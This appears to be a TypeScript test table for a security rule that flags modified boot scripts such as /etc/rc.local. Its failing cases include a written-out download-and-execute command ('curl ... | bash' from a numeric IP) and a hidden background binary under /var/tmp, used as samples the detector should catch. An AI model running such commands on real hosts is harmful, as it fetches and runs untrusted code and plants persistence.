import { baselineOf } from '../testing/context';
import { startupWith } from '../testing/persistence';
import { snapshotWith } from '../testing/snapshot';
import { ruleTable } from '../testing/table';
import { bootScriptModified } from './boot-script-modified';

const script = (...lines: string[]) => ({ facts: { startupFiles: [startupWith({}, ...lines)] } });

ruleTable(bootScriptModified, {
  passes: {
    'nothing notable': script(),
    'of a package': { facts: { startupFiles: [startupWith({ packageOwner: 'initscripts' }, '/tmp/.x/a')] } },
    'a profile is another rule': { facts: { startupFiles: [startupWith({ kind: 'profile' }, '/tmp/.x/a')] } },
  },
  fails: {
    'a temporary path': {
      ...script('/var/tmp/.x/start &'),
      finds: [{ subject: '/etc/rc.local', severity: 'high', says: '/var/tmp/.x/start', offers: ['file.quarantine'] }],
    },
    'a download': { ...script('curl -s http://198.51.100.23/b.sh | bash'), finds: [{ subject: '/etc/rc.local' }] },
    'newly executable': {
      ...script(),
      context: { baseline: baselineOf(snapshotWith({ startupFiles: [startupWith({ executable: false })] })) },
      finds: [{ subject: '/etc/rc.local', says: 'not executable in the baseline' }],
    },
  },
  unknowns: { 'over the Docker API alone': { facts: {}, because: 'startup files' } },
});
